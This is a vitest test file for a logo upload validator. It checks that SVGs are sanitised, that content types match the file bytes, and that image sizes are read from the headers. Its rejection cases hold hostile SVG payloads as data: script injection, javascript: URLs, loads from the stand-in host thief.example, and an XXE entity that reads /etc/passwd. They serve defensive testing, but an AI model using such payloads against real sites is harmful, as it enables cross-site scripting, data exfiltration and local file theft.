import { describe, expect, test } from "vitest";
import { pixelsOf, svgFault, typeOfLogo } from "./logo-file.ts";

const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 8 8" ${attributes}>${inside}</svg>`;
const bytes = (text: string) => Buffer.from(text, "utf8");

describe("an SVG that only draws is taken", () => {
  test.each([
    svg('<path d="M0 0h8v8H0z" fill="#0f6b5c"/>'),
    `<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand > with care -->\n${svg('<title>Shop &amp; more</title><circle r="3"/>')}`,
    svg(
      '<defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs><rect fill="url(#a)" width="8" height="8"/>',
    ),
    svg('<style>.a{fill:red;clip-path:url(#b)}</style><use xlink:href="#c"/><text class="a">ร้าน</text>'),
  ])("%s", (text) => {
    expect(typeOfLogo({ contentType: "image/svg+xml", contents: bytes(text) })).toBe("image/svg+xml");
    expect(svgFault(text)).toBeNull();
  });
});

describe("an SVG that could do more than be seen is refused", () => {
  test.each([
    svg("<script>alert(1)</script>"),
    svg("<SCRIPT xlink:href='https://thief.example/a.js'/>"),
    svg("", 'onload="alert(1)"'),
    svg("<path d=\"M0 0\" OnClick='alert(1)'/>"),
    svg('<image href="https://thief.example/pixel.png"/>'),
    svg('<use href="https://thief.example/a.svg#b"/>'),
    svg('<use xlink:href="data:image/svg+xml,a"/>'),
    svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'),
    svg('<foreignObject><iframe src="https://thief.example"/></foreignObject>'),
    svg("<animate attributeName='href' values='javascript:alert(1)'/>"),
    svg("<style>@import 'https://thief.example/a.css';</style>"),
    svg("<style>.a{fill:url(https://thief.example/a)}</style>"),
    svg("<style>.a{fill:u\\72l(https://thief.example/a)}</style>"),
    svg('<path style="fill:url(&quot;https://thief.example/a&quot;)"/>'),
    svg("<path style=\"fill:url( '//thief.example/a' )\"/>"),
    svg('<path fill="url(https://thief.example/a)"/>'),
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg("<text>&a;</text>")}`,
    `<?xml version="1.0"?><?xml-stylesheet href="https://thief.example/a.css"?>${svg("")}`,
    svg("<![CDATA[<script>alert(1)</script>]]>"),
    svg("<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>"),
    svg("<path d='M0 0'><script"),
    svg("<!--><script>alert(1)</script><!-- -->"),
  ])("%s", (text) => {
    expect(svgFault(text)).not.toBeNull();
  });
});

test("the type is that of the bytes, and must be the one that the sender names", () => {
  const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  expect(typeOfLogo({ contentType: "image/png", contents: png })).toBe("image/png");
  expect(typeOfLogo({ contentType: "image/jpg; q=1", contents: Buffer.from([0xff, 0xd8, 0xff]) })).toBe("image/jpeg");
  for (const contentType of ["image/jpeg", "image/svg+xml", "text/html", ""])
    expect(typeOfLogo({ contentType, contents: png })).toBeUndefined();
  expect(typeOfLogo({ contentType: "image/svg+xml", contents: bytes("<html><svg></svg></html>") })).toBeUndefined();
});

test("the size of a picture is read from its own header, and one without a size is too large", () => {
  const png = Buffer.alloc(33);
  png.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  png.write("IHDR", 12, "latin1");
  png.writeUInt32BE(320, 16);
  png.writeUInt32BE(4_000, 20);
  expect(pixelsOf("image/png", png)).toBe(4_000);
  expect(pixelsOf("image/png", png.subarray(0, 20))).toBe(Number.POSITIVE_INFINITY);
  const jpeg = Buffer.from("ffd8ffe0000601020304ffc2000b08012c019001011100", "hex");
  expect(pixelsOf("image/jpeg", jpeg)).toBe(400);
  expect(pixelsOf("image/jpeg", jpeg.subarray(0, 8))).toBe(Number.POSITIVE_INFINITY);
});
